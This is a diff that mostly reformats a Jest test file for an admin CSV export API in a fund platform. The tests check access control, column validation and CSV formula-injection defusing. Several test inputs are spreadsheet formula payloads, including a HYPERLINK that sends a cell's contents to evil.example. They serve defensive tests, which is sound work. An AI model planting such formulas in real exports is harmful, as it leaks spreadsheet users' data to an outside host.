@@ -1,10 +1,11 @@
 import { beforeAll, describe, expect, it } from '@jest/globals';
-import type { ExportColumn, ExportResource } from '@fund/contracts';
 import request from 'supertest';
 
+import type { ExportColumn, ExportResource } from '@fund/contracts';
+
 import { createActivity, createEnrollment, createKycApplication, createScheme } from '../../../test/factories.js';
+import { signInAdminAndInvestor, type AdminAndInvestor } from '../../../test/signed-in.js';
 import { createUser, useTestApp } from '../../../test/test-app.js';
-import { type AdminAndInvestor, signInAdminAndInvestor } from '../../../test/signed-in.js';
 import { createAsset } from '../assets/assets.test-utils.js';
 import { ExpressionOfInterest } from '../expressions/expression-of-interest.entity.js';
 import { Ticket } from '../tickets/ticket.entity.js';
@@ -56,17 +57,34 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     await createKycApplication(t);
     await createKycApplication(t, { status: 'rejected' });
     const expressions = t.dataSource.getRepository(ExpressionOfInterest);
-    await expressions.save(expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'pending', notes: null, archived: false }));
-    await expressions.save(expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'rejected', notes: 'Old', archived: true }));
+    await expressions.save(
+      expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'pending', notes: null, archived: false }),
+    );
+    await expressions.save(
+      expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'rejected', notes: 'Old', archived: true }),
+    );
     const tickets = t.dataSource.getRepository(Ticket);
     for (const status of ['open', 'resolved'] as const) {
       await tickets.save(
-        tickets.create({ investorId: investor.id, subject: `A ${status} ticket`, description: 'A description long enough.', category: 'general', priority: 'low', status }),
+        tickets.create({
+          investorId: investor.id,
+          subject: `A ${status} ticket`,
+          description: 'A description long enough.',
+          category: 'general',
+          priority: 'low',
+          status,
+        }),
       );
     }
-    await t.dataSource.query(`INSERT INTO audit_logs (action, action_details) SELECT 'ADMIN_INVITED', 'invited ' || n FROM generate_series(1, 3) AS n`);
+    await t.dataSource.query(
+      `INSERT INTO audit_logs (action, action_details) SELECT 'ADMIN_INVITED', 'invited ' || n FROM generate_series(1, 3) AS n`,
+    );
     const asset = await createAsset(t);
-    await request(t.server).post('/api/admin/asset-enrollments').set('Cookie', admin).send({ assetId: asset.id, enrollmentId: enrollment.id }).expect(201);
+    await request(t.server)
+      .post('/api/admin/asset-enrollments')
+      .set('Cookie', admin)
+      .send({ assetId: asset.id, enrollmentId: enrollment.id })
+      .expect(201);
   });
 
   /** Query parameters: texts as they are, anything else as JSON. */
@@ -74,7 +92,8 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     Object.fromEntries(Object.entries(query).map(([key, value]) => [key, typeof value === 'string' ? value : JSON.stringify(value)]));
   const exportOf = (resource: string, query: Record<string, unknown> = {}, cookie = admin) =>
     request(t.server).get(`/api/admin/exports/${resource}`).query(params(query)).set('Cookie', cookie);
-  const listOf = (path: string, query: Record<string, unknown> = {}) => request(t.server).get(path).query(params(query)).set('Cookie', admin);
+  const listOf = (path: string, query: Record<string, unknown> = {}) =>
+    request(t.server).get(path).query(params(query)).set('Cookie', admin);
 
   it('refuses a visitor without a session (401) and an investor (403)', async () => {
     const anonymous = await request(t.server).get('/api/admin/exports/audit-logs');
@@ -88,7 +107,11 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
   it('answers 404 for a list it does not export', async () => {
     const res = await exportOf('users');
     expect(res.status).toBe(404);
-    expect(res.body).toEqual({ statusCode: 404, error: 'Not Found', message: `No export named "users": one of ${['audit-logs', 'investor-summaries', 'kyc', 'expressions-of-interest', 'enrollments', 'activities', 'asset-allocations', 'tickets'].join(', ')}` });
+    expect(res.body).toEqual({
+      statusCode: 404,
+      error: 'Not Found',
+      message: `No export named "users": one of ${['audit-logs', 'investor-summaries', 'kyc', 'expressions-of-interest', 'enrollments', 'activities', 'asset-allocations', 'tickets'].join(', ')}`,
+    });
   });
 
   it.each([
@@ -115,9 +138,21 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     ['a column of an unknown field', { columns: [{ header: 'X', field: 'password' }] }, 'Invalid columns: unknown field "password"'],
     ['a column field from the prototype', { columns: [{ header: 'X', field: '__proto__' }] }, 'Invalid columns: unknown field "__proto__"'],
     ['a column without a header', { columns: [{ field: 'action' }] }, 'Invalid columns: column 1 needs a header of 1 to 200 characters'],
-    ['a column with an unknown option', { columns: [{ header: 'A', field: 'action', width: 3 }] }, 'Invalid columns: column 1 has an unknown option "width"'],
-    ['labels that are not texts', { columns: [{ header: 'A', field: 'action', labels: { LOGIN: 1 } }] }, 'Invalid columns: column 1 labels must map values to texts of up to 200 characters'],
-    ['a formula as a header (a link could plant it in a real export)', { columns: [{ header: '=HYPERLINK("http://evil.example/?"&B2,"x")', field: 'action' }] }, FORMULA_REFUSED],
+    [
+      'a column with an unknown option',
+      { columns: [{ header: 'A', field: 'action', width: 3 }] },
+      'Invalid columns: column 1 has an unknown option "width"',
+    ],
+    [
+      'labels that are not texts',
+      { columns: [{ header: 'A', field: 'action', labels: { LOGIN: 1 } }] },
+      'Invalid columns: column 1 labels must map values to texts of up to 200 characters',
+    ],
+    [
+      'a formula as a header (a link could plant it in a real export)',
+      { columns: [{ header: '=HYPERLINK("http://evil.example/?"&B2,"x")', field: 'action' }] },
+      FORMULA_REFUSED,
+    ],
     ['a formula as a label', { columns: [{ header: 'Action', field: 'action', labels: { LOGIN: '+1+2' } }] }, FORMULA_REFUSED],
     ['a formula as the empty text', { columns: [{ header: 'IP', field: 'ipAddress', empty: '@SUM(A1)' }] }, FORMULA_REFUSED],
     ['a formula as the present text', { columns: [{ header: 'IP', field: 'ipAddress', present: '-1+2' }] }, FORMULA_REFUSED],
@@ -139,7 +174,19 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
     expect(res.headers['cache-control']).toBe('no-store');
     const [header, ...rows] = parseCsv(res.text);
     // Without columns: every field of the rows, headed by its name.
-    expect(header).toEqual(['id', 'userId', 'userRole', 'action', 'actionDetails', 'ipAddress', 'userAgent', 'timestamp', 'userName', 'browser', 'os']);
+    expect(header).toEqual([
+      'id',
+      'userId',
+      'userRole',
+      'action',
+      'actionDetails',
+      'ipAddress',
+      'userAgent',
+      'timestamp',
+      'userName',
+      'browser',
+      'os',
+    ]);
     expect(rows).toHaveLength(2500);
     expect(new Set(rows.map((row) => row[0])).size).toBe(2500);
     expect(rows.map((row) => row[4])).toEqual(Array.from({ length: 2500 }, (_, i) => `entry ${i + 1}`));
@@ -167,7 +214,18 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
   });
 
   it('quotes commas, quotes and line breaks, and defuses cells a spreadsheet would run as formulas', async () => {
-    const details = ['=HYPERLINK("http://evil.example","click")', '+1 555', '-2+3', '@SUM(A1)', '\tTabbed', '\rReturn', 'Rahman, Yusuf', 'Say "salaam"', 'Line one\nLine two', 'Plain text'];
+    const details = [
+      '=HYPERLINK("http://evil.example","click")',
+      '+1 555',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTabbed',
+      '\rReturn',
+      'Rahman, Yusuf',
+      'Say "salaam"',
+      'Line one\nLine two',
+      'Plain text',
+    ];
     await t.dataSource.query(
       `INSERT INTO audit_logs (action, action_details, "timestamp")
        SELECT 'PASSWORD_CHANGED', d, now() - make_interval(secs => n) FROM unnest($1::text[]) WITH ORDINALITY AS x(d, n)`,
@@ -194,7 +252,11 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
         '',
       ].join('\r\n'),
     );
-    expect(parseCsv(res.text).slice(1).map((row) => row[0])).toEqual(details.map((d, i) => (i < 6 ? `'${d}` : d)));
+    expect(
+      parseCsv(res.text)
+        .slice(1)
+        .map((row) => row[0]),
+    ).toEqual(details.map((d, i) => (i < 6 ? `'${d}` : d)));
   });
 
   it('heads the columns with the texts sent and writes labels, empty and present texts and days', async () => {
@@ -205,7 +267,10 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
       { header: 'Reviewed', field: 'reviewedAt', date: true, empty: '-' },
       { header: 'Credentials', field: 'investorId', present: 'Yes', empty: 'No' },
     ];
-    await t.dataSource.query(`UPDATE kyc_applications SET submitted_at = '2026-11-02T10:00:00Z', reviewed_at = '2026-11-03T23:30:00Z' WHERE investor_id = $1`, [investor.id]);
+    await t.dataSource.query(
+      `UPDATE kyc_applications SET submitted_at = '2026-11-02T10:00:00Z', reviewed_at = '2026-11-03T23:30:00Z' WHERE investor_id = $1`,
+      [investor.id],
+    );
     const res = await exportOf('kyc', { columns, sort: ['status', 'ASC'] }).expect(200);
     const [header, ...rows] = parseCsv(res.text);
     expect(header).toEqual(['Full Name', 'Status', 'Submitted', 'Reviewed', 'Credentials']);
@@ -215,7 +280,11 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
       ['Rejected', expect.stringMatching(/^[A-Z][a-z]{2} \d{1,2}, \d{4}$/), '-', 'No'],
     ]);
     const pending = await exportOf('kyc', { columns, filter: { status: 'pending' } }).expect(200);
-    expect(parseCsv(pending.text).slice(1).map((row) => row[1])).toEqual(['Pending']);
+    expect(
+      parseCsv(pending.text)
+        .slice(1)
+        .map((row) => row[1]),
+    ).toEqual(['Pending']);
   });
 
   it('reads nested fields of the rows by their dotted names', async () => {
@@ -231,10 +300,22 @@ describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () =
   it('exports an investor’s activities with filter.investorId, and refuses them without one', async () => {
     const res = await exportOf('activities', { filter: { investorId: 'not-an-id' } });
     expect(res.status).toBe(400);
-    expect(res.body).toEqual({ statusCode: 400, error: 'Bad Request', message: 'Invalid filter: activities are exported one investor at a time (filter.investorId)' });
+    expect(res.body).toEqual({
+      statusCode: 400,
+      error: 'Bad Request',
+      message: 'Invalid filter: activities are exported one investor at a time (filter.investorId)',
+    });
     await exportOf('activities').expect(400);
-    const own = await exportOf('activities', { filter: { investorId: investor.id }, columns: [{ header: 'Title', field: 'title' }] }).expect(200);
-    expect(parseCsv(own.text).slice(1).map((row) => row[0]).sort()).toEqual(['Quarterly update', 'Second update']);
+    const own = await exportOf('activities', {
+      filter: { investorId: investor.id },
+      columns: [{ header: 'Title', field: 'title' }],
+    }).expect(200);
+    expect(
+      parseCsv(own.text)
+        .slice(1)
+        .map((row) => row[0])
+        .sort(),
+    ).toEqual(['Quarterly update', 'Second update']);
   });
 
   // Each export holds exactly the rows its list route answers, with the same filter and sort.
